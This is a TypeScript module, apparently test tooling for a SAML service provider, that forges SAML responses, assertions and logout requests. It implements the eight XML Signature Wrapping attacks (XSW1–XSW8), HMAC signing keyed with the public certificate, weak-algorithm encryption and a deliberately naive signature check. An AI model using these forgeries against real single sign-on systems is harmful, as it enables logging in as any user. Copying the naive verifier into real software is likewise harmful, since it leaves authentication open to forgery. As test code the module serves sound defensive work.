import { randomUUID, sign, X509Certificate } from 'node:crypto'
import { promisify } from 'node:util'
import { deflateRawSync, inflateRawSync } from 'node:zlib'
import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
import { SignedXml } from 'xml-crypto'
import { type EncryptOptions, encrypt as encryptXml } from 'xml-encryption'
import type { Identity } from './certificates.ts'
import { attributeStatement, escaped, nameIdFormats, type SamlUser } from './saml-provider.ts'

/** SAML messages as no honest or careful provider would make them. */

/** What is left out is as a service that is asked in this moment would want it; null is really left out. */
export interface Message {
  readonly issuer: string
  /** Where it differs from the message's. */
  readonly assertionIssuer?: string | null
  readonly audience: string | null
  readonly destination: string | null
  readonly recipient: string | null
  /** Of message and confirmation. */
  readonly inResponseTo: string | null
  /** Where the confirmation's differs. */
  readonly confirmedRequest?: string | null
  /** Seconds from now. */
  readonly notBefore?: number | null
  readonly notOnOrAfter?: number | null
  readonly confirmationNotOnOrAfter?: number | null
  /** As XML. */
  readonly nameId: string | null
  readonly nameIdFormat?: string
  readonly attributes?: SamlUser['attributes']
  readonly confirmation?: 'bearer' | 'holder-of-key' | 'sender-vouches' | null
  readonly messageId?: string
  readonly assertionId?: string
  readonly sessionIndex?: string
  /** Seconds from now, or as it is written. */
  readonly authnInstant?: number | string | null
  readonly authnContext?: string | null
  readonly status?: string
  /** In place of the assertion that the rest describes. */
  readonly assertions?: readonly string[]
}

const inSeconds = (seconds: number) => new Date(Date.now() + seconds * 1000).toISOString()
const attribute = (name: string, value: string | null | undefined) =>
  value === null || value === undefined ? '' : ` ${name}="${escaped(value)}"`
const moment = (name: string, seconds: number | null) =>
  seconds === null ? '' : attribute(name, inSeconds(seconds))
const element = (name: string, content: string | null) =>
  content === null ? '' : `<${name}>${content}</${name}>`

/** What the classes of AuthnContext begin with. */
export const classes = 'urn:oasis:names:tc:SAML:2.0:ac:classes:'

export function assertionXml(message: Message): string {
  const {
    assertionIssuer = message.issuer,
    confirmedRequest = message.inResponseTo,
    notBefore = -30,
    notOnOrAfter = 120,
    confirmationNotOnOrAfter = 120,
    nameIdFormat = nameIdFormats.persistent,
    confirmation = 'bearer',
    assertionId = newId(),
    sessionIndex = newId(),
    authnInstant = 0,
    authnContext = `${classes}Password`,
  } = message
  const instant = typeof authnInstant === 'number' ? inSeconds(authnInstant) : authnInstant
  const data = `${moment('NotOnOrAfter', confirmationNotOnOrAfter)}${attribute('Recipient', message.recipient)}${attribute('InResponseTo', confirmedRequest)}`
  const nameId =
    message.nameId === null ? '' : `<saml:NameID Format="${nameIdFormat}">${message.nameId}</saml:NameID>`
  const confirmed =
    confirmation === null
      ? ''
      : `<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:${confirmation}"><saml:SubjectConfirmationData${data}/></saml:SubjectConfirmation>`
  const audience = element(
    'saml:AudienceRestriction',
    message.audience && element('saml:Audience', message.audience),
  )
  const issuer = element('saml:Issuer', assertionIssuer && escaped(assertionIssuer))
  const now = inSeconds(0)
  return `<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="${assertionId}" Version="2.0" IssueInstant="${now}">${issuer}<saml:Subject>${nameId}${confirmed}</saml:Subject><saml:Conditions${moment('NotBefore', notBefore)}${moment('NotOnOrAfter', notOnOrAfter)}>${audience}</saml:Conditions><saml:AuthnStatement${attribute('AuthnInstant', instant)} SessionIndex="${sessionIndex}"><saml:AuthnContext>${element('saml:AuthnContextClassRef', authnContext)}</saml:AuthnContext></saml:AuthnStatement>${attributeStatement(message.attributes ?? {})}</saml:Assertion>`
}

export function responseXml(message: Message): string {
  const { messageId = newId(), status = 'Success', assertions = [assertionXml(message)] } = message
  return `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="${messageId}" Version="2.0" IssueInstant="${inSeconds(0)}"${attribute('Destination', message.destination)}${attribute('InResponseTo', message.inResponseTo)}><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">${escaped(message.issuer)}</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:${status}"/></samlp:Status>${assertions.join('')}</samlp:Response>`
}

interface LogoutMessage {
  readonly issuer: string
  readonly destination: string | null
  readonly nameId: string
  readonly nameIdFormat?: string
  readonly sessionIndex?: string
  /** Seconds from now. */
  readonly notOnOrAfter?: number | null
}

export const logoutRequestXml = (message: LogoutMessage): string => {
  const { nameIdFormat = nameIdFormats.persistent, notOnOrAfter = 120, sessionIndex = null } = message
  return `<samlp:LogoutRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="${newId()}" Version="2.0" IssueInstant="${inSeconds(0)}"${moment('NotOnOrAfter', notOnOrAfter)}${attribute('Destination', message.destination)}><saml:Issuer>${escaped(message.issuer)}</saml:Issuer><saml:NameID Format="${nameIdFormat}">${message.nameId}</saml:NameID>${element('samlp:SessionIndex', sessionIndex)}</samlp:LogoutRequest>`
}

export const newId = (): string => `_${randomUUID()}`

// Signatures ---------------------------------------------------------------------------------------------------

const signatureAlgorithms = {
  'rsa-sha256': 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  'rsa-sha1': 'http://www.w3.org/2000/09/xmldsig#rsa-sha1',
  'hmac-sha1': 'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
}
const digestAlgorithms = {
  sha256: 'http://www.w3.org/2001/04/xmlenc#sha256',
  sha1: 'http://www.w3.org/2000/09/xmldsig#sha1',
}

interface Signing {
  /** Local name of the element that is signed, the first of that name. */
  readonly element: 'Response' | 'Assertion' | 'LogoutRequest'
  readonly identity: Identity
  readonly algorithm?: keyof typeof signatureAlgorithms
  readonly digest?: keyof typeof digestAlgorithms
  /** What its KeyInfo has: nothing, or the bare key, as Lasso (LemonLDAP::NG) and others send it. */
  readonly keyInfo?: string
}

/** The bare key of a certificate (XML Signature §4.5.2.2). */
export function keyValueOf({ certificate }: Identity): string {
  const { n = '', e = '' } = new X509Certificate(certificate).publicKey.export({ format: 'jwk' })
  const base64 = (text: string) =>
    (
      Buffer.from(text, 'base64url')
        .toString('base64')
        .match(/.{1,64}/g) ?? []
    ).join('\n')
  return `<KeyValue>\n<RSAKeyValue>\n<Modulus>\n${base64(n)}\n</Modulus>\n<Exponent>\n${base64(e)}\n</Exponent>\n</RSAKeyValue>\n</KeyValue>`
}

/** @returns the document with an enveloped signature behind the element's issuer (SAML core §5.4) */
export function signed(
  xml: string,
  { element: name, identity, algorithm = 'rsa-sha256', digest = 'sha256', keyInfo }: Signing,
): string {
  const isHmac = algorithm === 'hmac-sha1'
  const signer = new SignedXml({
    // What everybody knows, as the key of a signature that needs a secret one.
    privateKey: isHmac ? identity.certificate : identity.privateKey,
    publicCert: identity.certificate,
    signatureAlgorithm: signatureAlgorithms[algorithm],
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
    ...(keyInfo !== undefined && { getKeyInfoContent: () => keyInfo }),
  })
  if (isHmac) signer.enableHMAC()
  const path = `(//*[local-name(.)='${name}'])[1]`
  signer.addReference({
    xpath: path,
    digestAlgorithm: digestAlgorithms[digest],
    transforms: [
      'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
      'http://www.w3.org/2001/10/xml-exc-c14n#',
    ],
  })
  const location = { reference: `${path}/*[local-name(.)='Issuer']`, action: 'after' } as const
  signer.computeSignature(xml, { prefix: 'ds', location })
  return signer.getSignedXml()
}

// Encryption ---------------------------------------------------------------------------------------------------

const contentAlgorithms = {
  'aes128-gcm': 'http://www.w3.org/2009/xmlenc11#aes128-gcm',
  'aes256-gcm': 'http://www.w3.org/2009/xmlenc11#aes256-gcm',
  'aes128-cbc': 'http://www.w3.org/2001/04/xmlenc#aes128-cbc',
  'aes256-cbc': 'http://www.w3.org/2001/04/xmlenc#aes256-cbc',
} as const
const keyAlgorithms = {
  'rsa-oaep': 'http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p',
  'rsa-1.5': 'http://www.w3.org/2001/04/xmlenc#rsa-1_5',
  'rsa-oaep-sha256': 'http://www.w3.org/2009/xmlenc11#rsa-oaep',
} as const

interface Encryption {
  /** What is encrypted, the first of that name. */
  readonly element?: 'Assertion' | 'NameID' | 'Attribute'
  /** In PEM. What is encrypted can be read with its private key. */
  readonly certificate: string
  readonly content?: keyof typeof contentAlgorithms
  readonly key?: keyof typeof keyAlgorithms
}

/** @returns the response with its (only) assertion encrypted, or something in it */
export async function encrypted(
  xml: string,
  { element = 'Assertion', certificate, content = 'aes256-gcm', key = 'rsa-oaep' }: Encryption,
): Promise<string> {
  const document = parse(xml)
  const secret = first(document, element)
  const options = {
    rsa_pub: certificate,
    pem: certificate,
    encryptionAlgorithm: contentAlgorithms[content],
    keyEncryptionAlgorithm: keyAlgorithms[key],
    ...(key === 'rsa-oaep-sha256' && { keyEncryptionDigest: 'sha256', keyEncryptionMgf: 'sha256' }),
    disallowEncryptionWithInsecureAlgorithm: false,
    warnInsecureAlgorithm: false,
  }
  // The types are of an older version, which knew fewer algorithms.
  const data = await promisify(encryptXml)(serialize(secret), options as EncryptOptions)
  const name = element === 'NameID' ? 'EncryptedID' : `Encrypted${element}`
  const wrapped = parse(
    `<saml:${name} xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">${data}</saml:${name}>`,
  )
  secret.parentNode?.replaceChild(document.importNode(wrapped.documentElement, true), secret)
  return serialize(document)
}

// Signature wrapping -------------------------------------------------------------------------------------------

/** Changes the copy that nobody has signed. */
type Evil = (copy: Element) => void

interface Wrapping {
  /** What must be signed in the message that it begins with. */
  readonly signs: 'Response' | 'Assertion' | 'LogoutRequest'
  /** From a validly signed message to one whose signature still holds, for a part that is no longer looked at. */
  readonly wrap: (signedXml: string, evil: Evil) => string
}

/**
 * The eight forms of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), as SAML
 * Raider makes them; of 7 and 8, where it leaves the evil assertion the same ID, also with another one.
 */
export const wrappings: Readonly<Record<string, Wrapping>> = {
  XSW1: wrapping('Response', 'evil keeps signature', (evil, original, signature) => {
    signature.appendChild(original)
    rename(evil)
  }),
  XSW2: wrapping('Response', 'evil keeps signature', (evil, original, signature) => {
    evil.insertBefore(original, signature)
    rename(evil)
  }),
  XSW3: wrapping('Assertion', 'original keeps signature', (evil, original) => {
    original.parentNode?.insertBefore(evil, original)
    rename(evil)
  }),
  XSW4: wrapping('Assertion', 'original keeps signature', (evil, original) => {
    original.parentNode?.replaceChild(evil, original)
    evil.appendChild(original)
    rename(evil)
  }),
  XSW5: wrapping('Assertion', 'evil keeps signature', (evil, original) => {
    evil.parentNode?.appendChild(original)
    rename(evil)
  }),
  XSW6: wrapping('Assertion', 'evil keeps signature', (evil, original, signature) => {
    signature.appendChild(original)
    rename(evil)
  }),
  XSW7: wrapping('Assertion', 'original keeps signature', intoExtensions),
  'XSW7 with another ID': wrapping('Assertion', 'original keeps signature', (evil, original) => {
    intoExtensions(evil, original)
    rename(evil)
  }),
  XSW8: wrapping('Assertion', 'evil keeps signature', intoObject),
  'XSW8 with another ID': wrapping('Assertion', 'evil keeps signature', (evil, original, signature) => {
    intoObject(evil, original, signature)
    rename(evil)
  }),
}

/** The same for a logout request. */
export const logoutWrappings: readonly Wrapping[] = [
  wrapping('LogoutRequest', 'evil keeps signature', (evil, original, signature) => {
    signature.appendChild(original)
    rename(evil)
  }),
  wrapping('LogoutRequest', 'evil keeps signature', (evil, original, signature) => {
    evil.insertBefore(original, signature)
    rename(evil)
  }),
  wrapping('LogoutRequest', 'evil keeps signature', intoObject),
]

type Place = (evil: Element, original: Element, signature: Element) => void

const rename = (evil: Element) => evil.setAttribute('ID', '_evil_ID')

function intoExtensions(evil: Element, original: Element): void {
  const extensions = original.ownerDocument.createElement('Extensions')
  extensions.appendChild(evil)
  original.parentNode?.insertBefore(extensions, original)
}

function intoObject(_evil: Element, original: Element, signature: Element): void {
  const object = original.ownerDocument.createElement('Object')
  object.appendChild(original)
  signature.appendChild(object)
}

/** @param place puts the one of the two that is not in the document yet into it */
function wrapping(
  signs: Wrapping['signs'],
  who: 'evil keeps signature' | 'original keeps signature',
  place: Place,
): Wrapping {
  const wrap = (signedXml: string, change: Evil) => {
    const document = parse(signedXml)
    const inPlace = first(document, signs)
    const signature = first(inPlace, 'Signature')
    const copy = inPlace.cloneNode(true) as Element
    const signatureOfCopy = first(copy, 'Signature')
    signatureOfCopy.parentNode?.removeChild(signatureOfCopy)
    const [evil, original] = who === 'evil keeps signature' ? [inPlace, copy] : [copy, inPlace]
    change(evil)
    place(evil, original, signature)
    return serialize(document)
  }
  return { signs, wrap }
}

/** What a service does that only asks whether there is a good signature somewhere. */
export function holdsValidSignature(xml: string, certificate: string): boolean {
  const verifier = new SignedXml({ publicCert: certificate })
  verifier.loadSignature(first(parse(xml), 'Signature'))
  return verifier.checkSignature(xml)
}

// XML ----------------------------------------------------------------------------------------------------------

export const parse = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml')
const serialize = (node: Node): string => new XMLSerializer().serializeToString(node)

/** The first element of this local name below. */
export function first(within: Document | Element, name: string): Element {
  const found = within.getElementsByTagNameNS('*', name)[0]
  if (found === undefined) throw new Error(`there is no ${name}`)
  return found
}

// Redirects ----------------------------------------------------------------------------------------------------

interface Redirected {
  readonly identity: Identity
  readonly relayState?: string
  readonly algorithm?: 'rsa-sha256' | 'rsa-sha1'
}

/** A logout request as a query, signed as SAML bindings §3.4.4.1 says. */
export function signedQuery(
  xml: string,
  { identity, relayState, algorithm = 'rsa-sha256' }: Redirected,
): string {
  const parts = [
    `SAMLRequest=${deflated(xml)}`,
    ...(relayState === undefined ? [] : [`RelayState=${encodeURIComponent(relayState)}`]),
    `SigAlg=${encodeURIComponent(signatureAlgorithms[algorithm])}`,
  ].join('&')
  const hash = algorithm === 'rsa-sha1' ? 'sha1' : 'sha256'
  const signature = sign(hash, Buffer.from(parts), identity.privateKey).toString('base64')
  return `${parts}&Signature=${encodeURIComponent(signature)}`
}

/** As the parameters of a redirect hold a message. */
export const deflated = (xml: string): string => encodeURIComponent(deflateRawSync(xml).toString('base64'))
export const inflated = (parameter: string): string =>
  inflateRawSync(Buffer.from(parameter, 'base64')).toString()
